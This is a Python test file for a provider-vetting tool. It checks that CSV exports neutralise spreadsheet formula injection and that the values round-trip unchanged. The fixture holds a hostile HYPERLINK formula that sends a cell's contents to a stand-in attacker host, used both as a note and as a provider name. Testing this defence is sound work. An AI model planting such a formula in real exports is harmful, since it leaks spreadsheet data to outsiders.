"""CSV exports are safe to open in a spreadsheet: text that would start a formula is quoted, and
our own importers read it back unchanged."""

import csv
import io

import pytest

from tests.factories import provider, write_directory
from vetting import answers as A
from vetting import load_directory
from vetting import shortlist as S
from vetting.spreadsheet import read_cell, safe_cell

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("value, expected", [
    (FORMULA, "'" + FORMULA),
    ("+1 555 0100", "'+1 555 0100"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\tcmd", "'\tcmd"),
    ("Alpha Clinic", "Alpha Clinic"),
    ("a = b", "a = b"),
    ("", ""),
    (None, None),
    (-5.0, -5.0),  # numbers stay numbers
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected
    assert read_cell(safe_cell(value)) == value


def test_answers_csv_quotes_formulas_and_round_trips():
    answers = [{"provider_id": "alpha-clinic", "item_id": "medical_screening", "status": "met", "note": FORMULA,
                "recorded_on": "2026-11-22"}]
    text = A.to_csv(answers)
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["note"] == "'" + FORMULA
    assert A.from_csv(text).iloc[0]["note"] == FORMULA


def test_comparison_and_call_sheet_csv_quote_a_hostile_provider_name(tmp_path):
    folder = write_directory(tmp_path, [provider("evil-clinic", name=FORMULA), provider("plain-clinic", name="Plain")])
    directory = load_directory(folder)
    assert not directory.problems, directory.problems
    comparison = S.compare(directory.providers, directory.evidence, directory.sources, ["evil-clinic", "plain-clinic"])
    names = [row["name"] for row in csv.DictReader(io.StringIO(S.comparison_csv(comparison)))]
    assert names == ["'" + FORMULA, "Plain"]
    sheet = A.call_sheet("evil-clinic", FORMULA, [("medical_screening", "Do you screen?")], [])
    row = next(csv.DictReader(io.StringIO(A.call_sheet_csv(sheet))))
    assert row["provider_name"] == "'" + FORMULA
